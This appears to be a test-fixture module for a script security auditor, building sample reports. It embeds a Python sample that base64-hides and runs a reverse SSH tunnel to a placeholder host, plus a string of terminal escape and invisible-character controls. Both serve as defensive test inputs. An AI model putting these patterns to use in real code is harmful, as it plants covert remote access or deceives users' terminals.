"""A few whole reports, made by hand, that the renderers' tests share."""

from __future__ import annotations

from datetime import date

from auditor.judge import Case, Terms, decide, findings_of, load_policy, parse_policy
from auditor.model.finding import Match
from auditor.model.gap import Gap, Stage, Why
from auditor.model.place import Place, Span, Step
from auditor.model.reading import Reading
from auditor.model.report import Report, Tool
from auditor.model.rule import Confidence, Reads, Severity
from auditor.model.unit import Language, Script, Unit
from auditor.model.verdict import Verdict
from auditor.render.summary import Summary
from tests.judge.made import at, effect, match, rule

TODAY = date(2026, 11, 23)
TOOL = Tool("0.1.0", "ab" * 32, "cd" * 32, (("bandit", "1.8.6"), ("semgrep", "1.182.0")))
SUMMARY = Summary(
    ((Verdict.DENY, 1), (Verdict.REVIEW, 1), (Verdict.ALLOW, 2)), 4, 1, (("binary", 2), ("link", 1)), 0.4217
)

HIDDEN_TEXT = """import base64, os

PORT = 8080
CMD = base64.b64decode("c3NoIC1OIC1SIDIyMjI6bG9jYWxob3N0OjIyIG9wc0AyMDMuMC4xMTMuNQ==").decode()
os.system(f"ssh -f -N -L {PORT}:db.example:5432 ops@bastion.example")
os.system(CMD)
"""
LOCAL = rule(
    id="ssh-local-forward",
    family="local-forward",
    title="A port forwarded to a named place",
    severity=Severity.LOW,
    confidence=Confidence.HIGH,
)
HIDING = rule(id="hidden-command", family="hiding", title="A command was hidden and recovered", severity=Severity.LOW)


def report(
    text: str,
    matches: tuple[Match, ...] = (),
    *,
    units: tuple[Unit, ...] = (),
    gaps: tuple[Gap, ...] = (),
    language: Language = Language.PYTHON,
    path: str = "scripts/setup.py",
    policy: str = "",
) -> Report:
    """Make a report of a script, judged by the default policy or by the text of another."""
    effects = tuple(made.effect for made in matches if made.effect is not None)
    reading = Reading((Unit(0, language, text), *units), effects, gaps)
    findings = findings_of(reading, matches)
    terms = Terms(parse_policy(policy, "p") if policy else load_policy(), day=TODAY)
    script = Script.of(text, language, path, "file")
    decision = decide(Case(script, reading, findings, gaps), terms)
    return Report(script, reading, findings, gaps, decision, TOOL, (("read", 4.25), ("match", 6.5), ("judge", 0.125)))


def hidden_tunnel(policy: str = "") -> Report:
    """Make the report of a Python script that decodes a command and runs it, beside a harmless forward and a gap."""
    inner = Unit(1, Language.BASH, "ssh -N -R 2222:localhost:22 ops@203.0.113.5", 0, Span(6, 1, 6, 15), "os.system")
    other = Unit(
        2, Language.BASH, "ssh -f -N -L 8080:db.example:5432 ops@bastion.example", 0, Span(5, 1, 5, 70), "os.system"
    )
    trail = (Step(0, Span(4, 7, 4, 90), "base64"),)
    return report(
        HIDDEN_TEXT,
        (
            match("ssh -N -R 2222:localhost:22 ops@203.0.113.5", at(1, 1, 43, unit=1, trail=trail)),
            match("ssh -f -N -L 8080:db.example:5432 ops@bastion.example", at(1, 1, 53, unit=2), LOCAL),
            match("hiding.decoded bash 1", Place(0, Span(6, 1, 6, 15), trail), HIDING),
        ),
        units=(inner, other),
        gaps=(Gap(Stage.READ, Why.TOO_DEEP, "code nested too deep", at(3)),),
        policy=policy,
    )


def clean() -> Report:
    """Make the report of a script with nothing in it."""
    return report("print('hello')\n", path="scripts/hello.py")


HOSTILE = "\x1b[2J\x1b]0;owned\x07\u202e\u2066\u200b\u200d\ufeff[bold red]x[/] \r\x9b31m\U000e0041\ud800"


def hostile() -> Report:
    """Make a report in which every text that the audited side controls steers terminals."""
    made = effect("ssh -R x", Place(0, Span(1, 1, 1, 3), (Step(0, Span(1, 1, 1, 2), f"op{HOSTILE}"),)))
    stage = (*made.words, *effect("x", at(1)).words[:0])
    card = rule(reads=Reads.SOURCE)
    return report(
        f"a{HOSTILE}b\nsecond {HOSTILE}\n",
        (
            Match(card, Place(1, Span(1, 1, 1, 9), made.place.trail), f"message {HOSTILE}"),
            Match(rule(id="two"), Place(0, Span(2, 1, 2, 5)), f"message {HOSTILE}", made),
        )
        if stage
        else (),
        units=(Unit(1, Language.BASH, f"inner {HOSTILE}", 0, Span(1, 1, 1, 4), f"run {HOSTILE}"),),
        gaps=(Gap(Stage.READ, Why.NOT_PARSED, f"near {HOSTILE}", at(1)),),
        path=f"dir/{HOSTILE}.py",
    )
